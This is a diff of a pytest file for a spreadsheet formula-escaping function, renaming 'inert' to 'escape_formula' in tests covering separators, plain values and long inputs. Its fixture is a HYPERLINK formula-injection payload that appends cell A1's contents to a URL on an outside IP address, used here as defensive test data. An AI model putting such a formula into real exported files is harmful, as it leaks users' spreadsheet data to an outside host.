@@ -6,7 +6,7 @@ import time
 
 import pytest
 
-from desktop_rag.core.formulas import inert
+from desktop_rag.core.formula_escape import escape_formula
 
 _LINK = '=HYPERLINK("http://192.0.2.1/?"&A1,"total")'
 
@@ -21,14 +21,14 @@ _LINK = '=HYPERLINK("http://192.0.2.1/?"&A1,"total")'
     ],
 )  # fmt: skip
 def test_a_formula_becomes_text(cell: str) -> None:
-    assert inert(cell) == f"'{cell}"
-    assert inert(inert(cell))[1:] in (cell, f"'{cell}")
+    assert escape_formula(cell) == f"'{cell}"
+    assert escape_formula(escape_formula(cell))[1:] in (cell, f"'{cell}")
 
 
 @pytest.mark.parametrize("separator", ["\t", "\r", "\n", "\r\n", ";", "\u2028"])
 def test_a_formula_after_what_begins_another_cell_becomes_text(separator: str) -> None:
-    assert inert(f"harmless{separator}{_LINK}") == f"harmless{separator}'{_LINK}"
-    assert inert(f"{separator}{_LINK}") == f"{separator}'{_LINK}"
+    assert escape_formula(f"harmless{separator}{_LINK}") == f"harmless{separator}'{_LINK}"
+    assert escape_formula(f"{separator}{_LINK}") == f"{separator}'{_LINK}"
 
 
 @pytest.mark.parametrize(
@@ -40,11 +40,11 @@ def test_a_formula_after_what_begins_another_cell_becomes_text(separator: str) -
     ],
 )  # fmt: skip
 def test_numbers_and_words_stay_as_they_are(cell: str) -> None:
-    assert inert(cell) == cell
+    assert escape_formula(cell) == cell
 
 
 def test_a_long_cell_takes_no_time() -> None:
     began = time.process_time()
     for cell in ("-" + "1" * 200_000 + "x!", "-" + " " * 200_000 + "!", '"' * 200_000 + "=1"):
-        assert inert(cell)[0] == "'"
+        assert escape_formula(cell)[0] == "'"
     assert time.process_time() - began < 5
